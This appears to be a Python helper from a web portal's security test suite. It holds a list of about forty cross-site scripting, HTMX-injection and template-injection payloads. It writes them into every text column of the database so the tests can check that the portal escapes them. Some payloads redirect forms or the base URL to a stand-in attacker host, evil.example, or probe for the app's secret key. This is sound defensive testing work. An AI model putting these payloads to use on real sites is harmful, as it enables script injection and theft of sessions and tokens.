"""What attackers type into text fields, and how every text of a world is replaced by it."""

import json
import re
from typing import Any

from sqlalchemy import JSON, Column, Connection, String, select, update
from sqlmodel.sql.sqltypes import AutoString

from portal.tables import metadata
from tests.security.canaries import MARK

PAYLOADS = [
    "<script>window.hit=1;fetch('/hit/1')</script>",
    "<ScRiPt src=/hit/2></sCrIpT>",
    '<img src=/hit/3 onerror="window.hit=3">',
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)><circle r=1></svg>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(7)'/>#x\"/></svg>",
    '<div hx-get="/hit/8" hx-trigger="load">x</div>',
    '<div hx-post="/hit/9" hx-trigger="load" hx-headers=\'{"x":"y"}\'>x</div>',
    '<form hx-post="/sign-out" hx-trigger="load"><button>x</button></form>',
    '<div data-hx-get="/hit/11" data-hx-trigger="load"></div>',
    '<div hx-on::load="alert(12)" hx-on:click="alert(12)">x</div>',
    '<hx-partial hx-target="body" hx-swap="innerHTML">gone</hx-partial>',
    '<template hx type="partial" hx-target="body"><p>gone</p></template>',
    '<div hx-swap-oob="innerHTML:body">gone</div>',
    '<a href="javascript:alert(16)" autofocus>x</a>',
    '<a href="/hit/17" ping="/hit/17">x</a>',
    '<iframe src="/hit/18"></iframe><iframe srcdoc="<script>parent.hit=18</script>"></iframe>',
    '<object data="/hit/19"></object><embed src="/hit/19">',
    "<link rel=stylesheet href=/hit/20><style>@import '/hit/20';</style>",
    '<meta http-equiv=refresh content="0;url=/hit/21">',
    '<base href="https://evil.example/">',
    "<form action=https://evil.example><input name=csrf_token><button>x</button></form>",
    "<input autofocus onfocus=alert(24)>",
    "<details open ontoggle=alert(25)><summary>x</summary></details>",
    "<video src=/hit/26 poster=/hit/26 onerror=alert(26)></video><audio src=/hit/26>",
    "<body onload=alert(27)>",
    '" onmouseover=alert(28) autofocus onfocus=alert(28) x="',
    "' onfocus=alert(29) autofocus hx-get='/hit/29' hx-trigger='load' '",
    '"><script>alert(30)</script>',
    "</textarea></title></style></script></select><script>alert(31)</script>",
    "--><script>alert(32)</script><!--",
    "]]><script>alert(33)</script>",
    "{{7*7}}{{ config }}{% raw %}{{ request.app.state.secret_key }}",
    "${7*7}#{7*7}%(x)s{0.__class__}{csrf_token}",
    "javascript:alert(36)",
    "data:text/html,<script>alert(37)</script>",
    "&lt;script&gt;alert(38)&lt;/script&gt;&#60;script&#62;alert(38)&#60;/script&#62;",
    "\u202e<script>alert(39)</script>\u2028\u2029",
    "＜script＞alert(40)＜/script＞",
]


def lace(connection: Connection, *, columns: str) -> int:
    """Replace each mark in every text of every row by all payloads, each time beginning with another one. Returns how many.

    `columns` is "addresses" for e-mail addresses, which only a broken normaliser would let through: one payload each, since
    they cannot be long; "texts" for the rest.
    """
    count = 0
    for table in metadata.tables.values():
        keys = list(table.primary_key)
        wanted = [column for column in table.columns if _holds_text(column) and column.name not in table.primary_key]
        wanted = [column for column in wanted if (column.name == "email") == (columns == "addresses")]
        if not wanted:
            continue
        for row in connection.execute(select(*keys, *wanted)).mappings().all():
            values: dict[str, Any] = {}
            for column in wanted:
                text = json.dumps(row[column.name]) if isinstance(column.type, JSON) else str(row[column.name] or "")
                if MARK.search(text):
                    count += 1
                    values[column.name] = _replace(row[column.name], count, is_short=columns == "addresses")
            if values:
                here = [key == row[key.name] for key in keys]
                connection.execute(update(table).where(*here).values({table.c[name]: value for name, value in values.items()}))
    return count


def _holds_text(column: Column[Any]) -> bool:
    return isinstance(column.type, JSON | String | AutoString)


def _replace(value: Any, turn: int, *, is_short: bool = False) -> Any:
    if isinstance(value, dict):
        return {name: _replace(inner, turn) for name, inner in value.items()}
    if isinstance(value, list):
        return [_replace(inner, turn) for inner in value]
    if not isinstance(value, str):
        return value
    start = turn % len(PAYLOADS)
    turned = [f"{PAYLOADS[start]}{turn}"] if is_short else PAYLOADS[start:] + PAYLOADS[:start]
    return re.sub(MARK, lambda _found: " ".join(turned), value)
